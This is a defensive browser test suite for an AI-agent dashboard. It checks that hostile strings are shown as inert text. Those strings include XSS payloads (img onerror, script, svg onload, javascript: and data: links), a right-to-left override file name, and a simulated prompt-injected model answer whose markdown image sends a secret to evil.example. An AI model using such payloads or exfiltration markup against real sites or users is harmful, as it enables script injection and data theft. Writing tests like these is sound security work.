import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import type { Visitor } from '../support/browser.ts';
import { sidewaysScroll, visit } from '../support/browser.ts';
import { signInTo } from '../support/dashboard-sign-in.ts';
import { sentTool, startMcp } from '../support/mcp-server.ts';
import type { Person, Platform, TestAgent } from '../support/platform.ts';
import { answer } from '../support/scripted-model.ts';
import { sharedPlatform } from '../support/shared-platform.ts';
import { calling } from '../support/tool-talk.ts';
import { until } from '../support/until.ts';

/** Each says that it ran: in the page's own world, where a test can ask for it. */
const IMAGE = '<img src=x onerror="hacked=1">';
const SCRIPT = '<script>hacked=1</script>';
/** Written "cod.exe" as it is read; a mark turns the rest of the line around. */
const TURNED = 'report\u202Eexe.doc';
const FAMILY = '👩‍👩‍👧‍👦🏴‍☠️';
const LONG = 'W'.repeat(10_000);
const HOSTILE = `${IMAGE}${SCRIPT} ${TURNED} ${FAMILY} [click](javascript:hacked=1) ${LONG}`;

/** Written from right to left, with a sign at the end that would stand at the wrong side. */
const ARABIC = 'اقرأ العقد (PDF) من فضلك!';
const HEBREW = 'החוזה מוכן, 3 עמודים.';
const ARABIC_NAME = 'مساعد (قانوني)';

/** What a model writes that was told to by a page it had read. */
const ANSWER = `
![a picture](https://evil.example/pixel.png?secret=1) ![inline](data:image/svg+xml,<svg onload="hacked=1">)
${IMAGE} ${SCRIPT} <svg onload=hacked=1></svg> <iframe src="https://evil.example"></iframe>
<a href="javascript:hacked=1">plain html</a> <style>body { display: none }</style> <base href="https://evil.example/">

[script link](javascript:hacked=1) [spaced](  JaVaScRiPt:hacked=1 ) [data](data:text/html,${SCRIPT}) [named][1]
<javascript:hacked=1> [own](/settings/data) [good](https://good.example/?q="onmouseover=hacked=1) https://bare.example/

[1]: javascript:hacked=1

| ${'wide | '.repeat(60)}
| ${'--- | '.repeat(60)}
| ${'cell | '.repeat(60)}

\`\`\`html
${SCRIPT} ${LONG}
\`\`\`

# ${TURNED} ${FAMILY}

${'> '.repeat(60)}deep

${LONG}

The end of it.
`;

describe('the dashboard shows hostile text as text', () => {
  let platform: Platform;
  let eve: Person;
  let agent: TestAgent;
  let visitor: Visitor;
  let page: Page;
  let message = '';
  let pending = '';
  let decided = '';
  before(async () => {
    platform = await sharedPlatform();
    eve = await platform.person('eve');
    const look = {
      description: `${SCRIPT}${FAMILY}${LONG}`.slice(0, 500),
      personality_traits: [IMAGE, 'W'.repeat(64)],
    };
    agent = await eve.agent(`${IMAGE}${TURNED}${FAMILY}`, {
      profile: { ...look, system_prompt: HOSTILE },
      capabilities: { domain_tags: [SCRIPT, TURNED, 'W'.repeat(64), 'twice', 'TWICE'] },
      tools: [{ name: 'email_sender' }] as never,
      governance: { allowed_domains: ['example.org'] },
    });
    await eve.agent('W'.repeat(80));
    const { profile } = (await eve.api<{ profile: object }>('GET', `/agents/${agent.id}`)).body;
    await eve.api('PATCH', `/agents/${agent.id}`, { profile: { ...profile, description: SCRIPT } });
    await upload(`${IMAGE.replace('/', '')} ${'W'.repeat(150)}.txt`);

    const body = `${IMAGE}${SCRIPT} ${TURNED} javascript:hacked=1 https://good.example@evil.example/ ${LONG}`;
    platform.model.script(({ body: { messages } }) => {
      const { role, content } = messages.at(-1) ?? {};
      // what was said stands behind what is remembered by then
      const said = String(content).split('\n').at(-1) ?? '';
      if (said === ARABIC) return answer(HEBREW);
      if (role === 'tool' || !said.startsWith('mail')) return answer(ANSWER);
      return calling('email_sender', { to: ['bo@example.org'], subject: `${IMAGE}${SCRIPT}`, body });
    });
    message = await say(HOSTILE);
    await until(async () => (await stateOf(message)) === 'answered', 30_000, 'an answer');
    await say('mail this');
    decided = await asked();
    const reason = `${IMAGE}${SCRIPT} ${TURNED} ${LONG}`.slice(0, 500);
    const reply = await eve.api('POST', `/approvals/${decided}/decision`, { decision: 'deny', reason });
    assert.equal(reply.status, 200);
    await say('mail that');
    pending = await asked();

    visitor = await visit(platform.stack.run.api, { viewport: { width: 360, height: 780 } });
    ({ page } = visitor);
    await signInTo(page, eve, '/agents');
  });
  after(async () => {
    await visitor?.close();
    if (pending) await eve.api('POST', `/approvals/${pending}/decision`, { decision: 'deny' });
    await platform?.stop();
  });

  async function say(text: string, to = agent.id, thread = ''): Promise<string> {
    const { status, body } = await eve.api('POST', `/agents/${to}/messages`, { text, ...(thread && { thread }) });
    assert.equal(status, 202, JSON.stringify(body));
    return String(body['message_id']);
  }
  const stateOf = async (id: string) => (await eve.api('GET', `/messages/${id}`)).body['state'];
  async function asked(): Promise<string> {
    const open = async () =>
      (await eve.api<{ items: { approval_id: string }[] }>('GET', '/approvals')).body.items.map(
        (each) => each.approval_id,
      );
    await until(async () => (await open()).some((id) => id !== decided), 30_000, 'a request');
    return (await open()).find((id) => id !== decided) ?? '';
  }
  async function upload(name: string): Promise<void> {
    const url = `${platform.stack.run.api}/api/v1/agents/${agent.id}/documents?name=${encodeURIComponent(name)}`;
    const headers = { authorization: `Bearer ${eve.token}`, 'content-type': 'text/html' };
    assert.equal((await fetch(url, { method: 'POST', headers, body: SCRIPT })).status, 201);
  }

  /** Nothing ran, nothing was fetched, nothing leads to a script, and nothing pushes the page aside. */
  async function harmless(): Promise<void> {
    assert.equal(await page.evaluate('typeof hacked'), 'undefined');
    assert.equal(
      await page.locator('main :is(img, iframe, object, embed, script, style, base, [onload], [onerror])').count(),
      0,
    );
    // a link of a model leads to the web by its own address, and does not say where it was followed from
    const links = await page.evaluate<string[]>('[...document.links].map(({ href, rel }) => `${href} ${rel}`)');
    const elsewhere = links.filter((link) => !link.startsWith(platform.stack.run.api) && !link.startsWith('xmpp:'));
    assert.deepEqual(
      elsewhere.filter((link) => !/^https:\S+ noopener noreferrer nofollow$/.test(link)),
      [],
    );
    assert.deepEqual(await sidewaysScroll(page), []);
    visitor.assertQuiet();
  }
  const text = (part: string) => page.getByText(part).locator('visible=true').first().waitFor();

  it('as the name, description and tags of an agent', async () => {
    await page.goto('/agents');
    await text(IMAGE);
    await text(SCRIPT);
    await harmless();
    await page
      .getByLabel(/^Actions for/)
      .last()
      .click();
    await harmless();
    await page.getByRole('button', { name: 'Delete', exact: true }).locator('visible=true').click();
    await page.getByRole('dialog').getByText(IMAGE).first().waitFor();
    await harmless();
  });

  it('in the form of an agent, and in a copy of it', async () => {
    for (const address of [`/agents/${agent.id}/edit`, `/agents/new?from=${agent.id}`]) {
      await page.goto(address);
      await text(SCRIPT);
      await harmless();
    }
  });

  it('as a message and as the answer of a model', async () => {
    await page.goto(`/agents/${agent.id}`);
    await text('The end of it.');
    await text('[picture, not loaded: a picture (evil.example)]');
    await text(IMAGE);
    await harmless();
    await page.getByRole('link', { name: 'good', exact: true }).first().waitFor();
    for (const name of ['script link', 'spaced', 'data', 'named', 'plain html'])
      assert.equal(await page.getByRole('link', { name, exact: true }).count(), 0, name);
    await page
      .getByRole('button', { name: /^Show all/ })
      .first()
      .click();
    await harmless();
  });

  it('as what a tool is to get', async () => {
    await page.goto('/approvals');
    await text('email_sender');
    await harmless();
    await page.goto(`/approvals/${pending}`);
    await text(SCRIPT);
    await text('U+202E');
    await page
      .locator('b, strong, mark, span')
      .filter({ hasText: /^evil\.example$/ })
      .first()
      .waitFor();
    await harmless();
    await page
      .getByRole('button', { name: /^Show all/ })
      .first()
      .click();
    await page.getByRole('button', { name: 'As JSON' }).click();
    await harmless();
    await page.getByRole('button', { name: 'As JSON' }).click();
    const dialog = page.getByRole('dialog');
    for (const act of ['Approve', 'Edit', 'Deny']) {
      const opens = async () => {
        await page.getByRole('main').getByRole('button', { name: act, exact: true }).first().click();
        return dialog.isVisible();
      };
      await until(opens, 5_000, act);
      await harmless();
      await page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'detached' });
    }
  });

  it('as the reason of a refusal', async () => {
    await page.goto('/approvals?tab=decided');
    await text('email_sender');
    await harmless();
    await page.goto(`/approvals/${decided}`);
    await text(IMAGE);
    await harmless();
  });

  it('as the name of a document', async () => {
    await page.goto(`/agents/${agent.id}/documents`);
    await text('<img src=x');
    await harmless();
    await page
      .getByRole('button', { name: /^Delete/ })
      .first()
      .click();
    await page.getByRole('dialog').waitFor();
    await harmless();
  });

  it('in a run, step by step, and wherever else an agent is told of', async () => {
    for (const step of [1, 10, 13, 15]) {
      await page.goto(`/runs/${message}?step=${step}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await harmless();
    }
    const own = {
      runs: page.locator(`a[href="/runs/${message}"]`),
      audit: page.getByText('agent.created'),
      'versions?from=1&to=2': page.getByText(SCRIPT),
      metrics: page.getByRole('columnheader', { name: 'Messages' }),
    };
    for (const [place, shown] of Object.entries(own)) {
      await page.goto(`/agents/${agent.id}/${place}`);
      await page.getByRole('heading', { level: 1 }).getByText(IMAGE).waitFor();
      await shown.first().waitFor();
      await harmless();
    }
    await page.goto('/governance');
    await text(IMAGE);
    await harmless();
  });

  it('as the name of an account', async () => {
    const name = `${IMAGE}${TURNED}${'W'.repeat(20)}`;
    const { status, body } = await eve.api('PATCH', '/me', { name });
    assert.equal(status, 200, JSON.stringify(body));
    await page.goto('/settings/profile');
    const shown = async () => (await page.getByLabel('Name', { exact: true }).inputValue()) === name;
    await until(shown, 10_000, 'the name');
    await harmless();
  });

  it('as the longest name of an MCP server, and as what it says of its tools', async () => {
    const mcp = await startMcp();
    try {
      const schema = { type: 'object', properties: { [IMAGE]: { type: 'string', description: SCRIPT } } };
      mcp.tools = [
        sentTool('W'.repeat(40), { description: HOSTILE.slice(0, 900), inputSchema: schema }),
        sentTool(`${SCRIPT}${TURNED}`, { description: IMAGE }),
      ];
      const server = { transport: 'http', name: 'w'.repeat(20), url: mcp.url };
      const { status, body } = await eve.api<{ tools: unknown[] }>('POST', '/mcp-servers', server);
      assert.deepEqual([status, body.tools.length], [201, 1], JSON.stringify(body));
      await page.goto('/settings/mcp-servers');
      const summaries = page.locator('main summary');
      await summaries.first().waitFor();
      for (const each of await summaries.all()) await each.click();
      await text(IMAGE);
      await harmless();
      await page.goto(`/agents/${agent.id}/edit`);
      await text('w'.repeat(20));
      await harmless();
    } finally {
      await eve.api('DELETE', `/mcp-servers/${'w'.repeat(20)}`);
      await mcp.stop();
    }
  });

  it('as the longest name of a connection, and as where it leads', async () => {
    const name = `w${'-w'.repeat(15)}`;
    const access = { host: '127.0.0.1', database: `${IMAGE}${TURNED}`, user: SCRIPT, password: SCRIPT, ssl: 'off' };
    const { status, body } = await eve.api('PUT', `/tool-connections/${name}`, {
      ...access,
      allowed_tables: ['public.orders'],
    });
    assert.equal(status, 200, JSON.stringify(body));
    await page.goto('/settings/connections');
    await text(name);
    await harmless();
  });

  it('as a memory', async () => {
    const kept = async () => JSON.stringify((await eve.api('GET', `/agents/${agent.id}/memories`)).body);
    await until(async () => (await kept()).includes('hacked=1'), 60_000, 'a memory');
    await page.goto(`/agents/${agent.id}/memory`);
    const memory = page
      .locator('[data-memories] > li')
      .filter({ hasText: SCRIPT })
      .filter({ hasText: 'U+202E' })
      .first();
    await memory.waitFor();
    await harmless();
    await memory.getByRole('button', { name: /^Forget/ }).click();
    await page.getByRole('dialog').getByText(SCRIPT).first().waitFor();
    await harmless();
  });

  it('as what is searched for or asked for by a link', async () => {
    const asked = encodeURIComponent(`${IMAGE}${SCRIPT}`);
    for (const place of ['/agents', `/agents/${agent.id}/memory`]) {
      await page.goto(`${place}?q=${asked}`);
      await until(async () => (await page.getByRole('searchbox').inputValue()) === `${IMAGE}${SCRIPT}`, 5_000, place);
      await page.locator('main [aria-busy=true]').first().waitFor({ state: 'detached' });
      await harmless();
    }
    await page.goto(`/approvals?tool=${asked}`);
    await until(
      async () => (await page.getByLabel('All tools').inputValue()) === `${IMAGE}${SCRIPT}`,
      5_000,
      'the tool in the filter',
    );
    await harmless();
  });

  it('as what is written from right to left, which turns nothing around it', async () => {
    const writer = await eve.agent(ARABIC_NAME);
    const id = await say(ARABIC, writer.id, `${SCRIPT}${TURNED}`);
    await until(async () => (await stateOf(id)) === 'answered', 30_000, 'an answer');
    const isTurned = async (part: string) => {
      await page.locator(':dir(rtl)', { hasText: part }).first().waitFor();
      assert.equal(await page.locator('main:dir(ltr)').count(), 1);
    };
    await page.goto('/agents');
    await isTurned(ARABIC_NAME);
    await harmless();
    await page.goto(`/agents/${writer.id}`);
    for (const part of [ARABIC_NAME, ARABIC, HEBREW]) await isTurned(part);
    // which conversation it is in is a word of ours with a part of the thread, and beside it a button
    const thread = page.locator('bdi').filter({ hasText: SCRIPT.slice(0, 20) });
    await thread.first().waitFor();
    await harmless();
  });
});
